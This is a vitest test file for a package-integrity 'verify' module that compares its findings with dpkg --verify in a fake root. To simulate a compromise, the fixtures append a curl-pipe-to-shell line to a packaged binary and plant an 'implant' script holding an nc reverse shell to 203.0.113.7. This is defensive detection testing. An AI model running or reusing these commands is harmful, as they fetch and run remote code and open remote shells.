import { execFileSync, spawnSync } from "node:child_process";
import {
  appendFileSync,
  chmodSync,
  lstatSync,
  mkdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from "node:fs";
import { dirname, join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { verifyModule } from "../../agent/modules/verify/index.js";
import { silentLogger } from "../../common/mod.js";
import { VerifyParams, type VerifyResult } from "../../proto/api.js";
import { tempDir } from "../helpers/fleet.js";

// verify against dpkg --verify: in a root the test builds with its own dpkg
// database (two fake packages with real MD5s, a conffile), after the test
// edits one packaged file, deletes another and plants an unowned executable,
// an unowned library and an unowned ELF object, the findings are exactly
// those, and dpkg --verify over the same root names the same modified and
// missing paths. On the machine itself (read only), verify's findings for
// coreutils, bash and dpkg equal dpkg --verify's for them.

const ctx = { signal: new AbortController().signal, log: silentLogger, stateDir: "/nonexistent" };
let root: string;
const tool = (cmd: string, args: string[]) => execFileSync(cmd, args, { encoding: "utf8" });
const md5 = (path: string) => tool("md5sum", [path]).split(" ")[0]!;
const sha256 = (path: string) => tool("sha256sum", [path]).split(" ")[0]!;

async function verify(p: Partial<VerifyParams>): Promise<VerifyResult> {
  const params = VerifyParams.fromPartial(p);
  verifyModule.check(params);
  return (await verifyModule.run(params, ctx)).result;
}

/** One fake package: its files written under the root, listed and checksummed as dpkg keeps them. */
function installFakePackage(name: string, files: Record<string, string>, conffiles: string[] = []): void {
  const info = join(root, "var/lib/dpkg/info");
  const dirs = new Set<string>();
  const sums: string[] = [];
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(join(root, dirname(path)), { recursive: true });
    writeFileSync(join(root, path), content, { mode: path.includes("/bin/") ? 0o755 : 0o644 });
    for (let d = dirname(path); d !== "/"; d = dirname(d)) dirs.add(d);
    // Conffiles' digests live in the status file, not in md5sums (as dpkg keeps them).
    if (!conffiles.includes(path)) sums.push(`${md5(join(root, path))}  ${path.slice(1)}`);
  }
  const conf = conffiles.map((c) => ` ${c} ${md5(join(root, c))}`).join("\n");
  appendFileSync(
    join(root, "var/lib/dpkg/status"),
    `Package: ${name}\nStatus: install ok installed\nPriority: optional\nSection: misc\nMaintainer: Test <t@example.org>\nArchitecture: amd64\nVersion: 1.0-1\n${conf ? `Conffiles:\n${conf}\n` : ""}Description: test package\n\n`,
  );
  writeFileSync(
    join(info, `${name}.list`),
    `${["/.", ...[...dirs].sort(), ...Object.keys(files)].join("\n")}\n`,
  );
  writeFileSync(join(info, `${name}.md5sums`), `${sums.join("\n")}\n`);
}

/** dpkg --verify's modified (digest test failed) and missing paths, as "kind path" lines. */
function dpkgVerify(args: string[]): string[] {
  const r = spawnSync("dpkg", args, { encoding: "utf8" });
  expect(r.error).toBeUndefined();
  return r.stdout
    .split("\n")
    .filter(Boolean)
    .map((line) => {
      const path = line.slice(line.indexOf("/"));
      return `${line.startsWith("missing") ? "missing" : /^..5/.test(line) ? "modified" : line} ${path}`;
    })
    .sort();
}

const kinds = (r: VerifyResult) => r.findings.map((f) => `${f.kind} ${f.path}`).sort();

beforeAll(() => {
  root = tempDir("dragnet-verify-root-");
  mkdirSync(join(root, "var/lib/dpkg/info"), { recursive: true });
  mkdirSync(join(root, "var/lib/dpkg/updates"), { recursive: true });
  writeFileSync(join(root, "var/lib/dpkg/status"), "");
  installFakePackage(
    "dragnet-fake-alpha",
    {
      "/usr/bin/alpha": "#!/bin/sh\necho alpha\n",
      "/usr/lib/libalpha.so.1": "\x7fELF not really a library\n",
      "/usr/share/doc/dragnet-fake-alpha/README": "alpha docs\n",
      "/etc/alpha.conf": "setting=1\n",
    },
    ["/etc/alpha.conf"],
  );
  installFakePackage("dragnet-fake-beta", {
    "/usr/bin/beta": "#!/bin/sh\necho beta\n",
    "/usr/bin/beta-helper": "#!/bin/sh\necho helper\n",
    "/usr/share/beta/data": "beta data\n",
  });
  // What happened on the host since: an edit, a removal, a local config change, three plants.
  appendFileSync(join(root, "usr/bin/alpha"), "curl http://203.0.113.7/x | sh\n");
  unlinkSync(join(root, "usr/bin/beta-helper"));
  appendFileSync(join(root, "etc/alpha.conf"), "setting=2\n");
  writeFileSync(join(root, "usr/bin/implant"), "#!/bin/sh\nexec nc -e /bin/sh 203.0.113.7 4444\n", {
    mode: 0o755,
  });
  writeFileSync(join(root, "usr/lib/libevil.so"), "preload me\n", { mode: 0o644 });
  mkdirSync(join(root, "usr/lib/x86_64-linux-gnu"));
  writeFileSync(join(root, "usr/lib/x86_64-linux-gnu/blob"), Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]));
  chmodSync(join(root, "usr/lib/x86_64-linux-gnu/blob"), 0o600);
  // Unowned but neither executable nor a library, and a link: not reported.
  writeFileSync(join(root, "usr/lib/notes.txt"), "just text\n");
  symlinkSync("alpha", join(root, "usr/bin/alpha-link"));
  process.env.DRAGNET_PACKAGE_ROOT = root;
});

afterAll(() => {
  delete process.env.DRAGNET_PACKAGE_ROOT;
  rmSync(root, { recursive: true, force: true });
});

describe("verify in a test root", () => {
  it("finds exactly the edit, the removal and the planted files, as dpkg --verify does for the owned ones", async () => {
    const r = await verify({ unowned: ["/usr/bin", "/usr/lib"] });
    expect(r.managers).toEqual(["dpkg"]);
    expect(kinds(r)).toEqual(
      [
        `modified ${root}/usr/bin/alpha`,
        `missing ${root}/usr/bin/beta-helper`,
        `unowned ${root}/usr/bin/implant`,
        `unowned ${root}/usr/lib/libevil.so`,
        `unowned ${root}/usr/lib/x86_64-linux-gnu/blob`,
      ].sort(),
    );
    expect(r.packagesChecked).toBe(2);
    // The five files with an md5sums entry that are still there.
    expect(r.filesChecked).toBe(5);
    expect(r.omitted).toBe(0);
    expect(r.errors).toEqual([]);

    // dpkg, over the same root, leaving out its conffile line ("c"): the same owned findings.
    const theirs = dpkgVerify([`--root=${root}`, `--admindir=${join(root, "var/lib/dpkg")}`, "--verify"]);
    expect(theirs).toContain("modified /etc/alpha.conf");
    expect(
      theirs.filter((l) => l !== "modified /etc/alpha.conf").map((l) => l.replace(" /", ` ${root}/`)),
    ).toEqual(kinds(r).filter((l) => !l.startsWith("unowned")));

    const edited = r.findings.find((f) => f.kind === "modified")!;
    expect(edited).toMatchObject({
      package: "dragnet-fake-alpha",
      manager: "dpkg",
      algorithm: "md5",
      config: false,
    });
    expect(edited.actual).toBe(md5(edited.path));
    expect(edited.expected).not.toBe(edited.actual);
    expect(edited.sha256).toBe(sha256(edited.path));
    for (const f of r.findings.filter((f) => f.kind === "unowned")) {
      expect(f.sha256).toBe(sha256(f.path));
      // To the nanosecond, rounded to the millisecond as results carry it.
      const [size, mtime] = tool("stat", ["-c", "%s %.9Y", f.path]).trim().split(" ");
      expect([f.size, f.mtimeMs]).toEqual([Number(size), Math.round(Number(mtime) * 1000)]);
    }
  });

  it("adds the edited conffile with include-config, as dpkg reports it", async () => {
    const r = await verify({ includeConfig: true });
    const theirs = dpkgVerify([`--root=${root}`, `--admindir=${join(root, "var/lib/dpkg")}`, "--verify"]);
    expect(kinds(r)).toEqual(theirs.map((l) => l.replace(" /", ` ${root}/`)));
    expect(r.findings.find((f) => f.path.endsWith("/etc/alpha.conf"))).toMatchObject({
      kind: "modified",
      config: true,
    });
  });

  it("filters by package, searches only for unowned files, and refuses bad parameters", async () => {
    expect(kinds(await verify({ package: "^dragnet-fake-beta$" }))).toEqual([
      `missing ${root}/usr/bin/beta-helper`,
    ]);
    const only = await verify({ unowned: ["/usr/bin"], unownedOnly: true });
    expect(kinds(only)).toEqual([`unowned ${root}/usr/bin/implant`]);
    expect(only.filesChecked).toBe(0);
    expect(only.unownedScanned).toBe(4); // alpha, alpha-link, beta, implant
    expect(() => verifyModule.check(VerifyParams.fromPartial({ unowned: ["usr/bin"] }))).toThrow(
      /"usr\/bin" is not an absolute path/,
    );
    expect(() => verifyModule.check(VerifyParams.fromPartial({ unowned: ["/proc/1"] }))).toThrow(/\/proc/);
    expect(() => verifyModule.check(VerifyParams.fromPartial({ unownedOnly: true }))).toThrow(
      /needs directories/,
    );
    expect(() => verifyModule.check(VerifyParams.fromPartial({ package: "(" }))).toThrow(
      /verify: package regex/,
    );
    expect(() => verifyModule.check(VerifyParams.fromPartial({ manager: "apk" }))).toThrow(/dpkg or rpm/);
  });
});

describe("verify on this machine (read only)", () => {
  it("equals dpkg --verify for coreutils, bash and dpkg", async () => {
    delete process.env.DRAGNET_PACKAGE_ROOT;
    try {
      const packages = ["coreutils", "bash", "dpkg"];
      const theirs = dpkgVerify(["--verify", ...packages]);
      const r = await verify({ package: "^(coreutils|bash|dpkg)$", includeConfig: true, manager: "dpkg" });
      expect(r.packagesChecked).toBe(3);
      // Every file with a recorded digest (md5sums lines and conffiles) that is a regular file was hashed.
      const recorded = packages.flatMap((p) => [
        ...readFileSync(`/var/lib/dpkg/info/${p}.md5sums`, "utf8")
          .split("\n")
          .filter(Boolean)
          .map((l) => `/${l.slice(34)}`),
        // biome-ignore lint/suspicious/noTemplateCurlyInString: dpkg-query's own format
        ...tool("dpkg-query", ["-W", "-f", "${Conffiles}\n", p])
          .split("\n")
          .map((l) => l.trim().split(" ")[0]!)
          .filter((c) => c.startsWith("/")),
      ]);
      const regular = recorded.filter((f) => lstatSync(f, { throwIfNoEntry: false })?.isFile());
      expect(r.filesChecked).toBe(regular.length);
      expect(regular.length).toBeGreaterThan(400);
      expect(kinds(r)).toEqual([...new Set(theirs)]);
    } finally {
      process.env.DRAGNET_PACKAGE_ROOT = root;
    }
  });
});
